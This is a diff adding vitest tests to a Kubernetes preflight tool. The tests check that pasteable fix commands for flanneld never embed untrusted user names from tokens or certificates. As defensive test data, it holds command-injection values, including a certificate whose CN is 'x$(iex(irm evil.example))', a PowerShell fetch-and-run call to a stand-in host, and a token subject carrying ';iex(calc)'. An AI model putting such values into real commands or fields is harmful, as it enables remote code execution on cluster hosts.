@@ -1,6 +1,8 @@
 // Who the daemons are to the cluster: how long, for which node, and what they may not do.
 import {describe, expect, test} from 'vitest'
 import {NEEDS} from '../../src/components/permissions.js'
+import type {Kubeconfig} from '../../src/host/cluster/kubeconfig.js'
+import {adviseOn} from '../../src/preflight/identity-checks.js'
 import {ADMIN_CERTIFICATE} from '../../src/simulator/cluster/certificates.js'
 import {makeKubeconfig} from '../../src/simulator/cluster/kubeconfig.js'
 import type {World} from '../../src/simulator/world.js'
@@ -8,6 +10,19 @@ import {pem} from '../host/cluster/loopback-cluster.js'
 import {check, checkOne, KUBECONFIG, kubeconfigOf} from './cluster-bench.js'
 
 const SERVER = 'https://10.0.0.10:6443'
+const EMPTY = {key: 'x', server: SERVER, tls: {}, write: {}} as unknown as Kubeconfig
+/** CN=x$(iex(irm evil.example)), made by openssl. */
+const EVIL_CERTIFICATE = `-----BEGIN CERTIFICATE-----
+MIIBnjCCAUOgAwIBAgIUF+7krmUzeim7DeVEp+19B+HyapYwCgYIKoZIzj0EAwIw
+JDEiMCAGA1UEAwwZeCQoaWV4KGlybSBldmlsLmV4YW1wbGUpKTAeFw0yNjExMTcy
+MTA3MThaFw0yNjEyMTcyMTA3MThaMCQxIjAgBgNVBAMMGXgkKGlleChpcm0gZXZp
+bC5leGFtcGxlKSkwWTATBgcqhkjOPQIBBggqhkjOPQMBBwNCAAQCvS3kE8/dKL7F
+kuLVasi4tWTSv4ksZ9f7QAu34/LHpck6SZah/889j511/FN4xmi3WrNv9PvEJMgf
+5lkzHPOOo1MwUTAdBgNVHQ4EFgQU5zbNV9YZhG63UUslY2cGmQVs9x8wHwYDVR0j
+BBgwFoAU5zbNV9YZhG63UUslY2cGmQVs9x8wDwYDVR0TAQH/BAUwAwEB/zAKBggq
+hkjOPQQDAgNJADBGAiEAu0PaKRc2rfx8GW6t/2DDZge1wHt79B92/aV9pNtlBfMC
+IQCivfeRDheDAQoG+pofs1KwXfR8wWGhjC475b/LXYmYFw==
+-----END CERTIFICATE-----`
 const DAY_MS = 24 * 3_600_000
 const jwt = (claims: object): string => `e30.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.canary`
 
@@ -209,6 +224,19 @@ describe('permissions', () => {
     expect(problems[0]?.fix).toContain('--node-name win-1')
     expect(problems[0]?.fix).toContain('--client-name=system:node:win-2')
     expect(problems[0]?.fix).not.toContain('clusterrolebinding')
+  })
+
+  test.each([
+    ['system:serviceaccount:a:b;iex(calc)', '--serviceaccount=<name>'],
+    ['system:serviceaccount:a:b', '--serviceaccount=a:b'],
+  ])('review S2-6: a command to paste names the user of a token only as one harmless word: %s', (sub, subject) => {
+    const {fix} = adviseOn('flanneld', {...EMPTY, token: jwt({sub})}, 'win-1')
+    expect(fix.split('\n')[1]?.split(' ').at(-1)).toBe(subject)
+  })
+
+  test('review S2-6: nor the user of a certificate: x$(iex(irm evil.example))', () => {
+    const {fix} = adviseOn('flanneld', {...EMPTY, certificate: EVIL_CERTIFICATE}, 'win-1')
+    expect(fix.split('\n')[1]?.split(' ').at(-1)).toBe('--user=<name>')
   })
 
   test('review K3: a bootstrap token gets no binding, for any daemon', async () => {
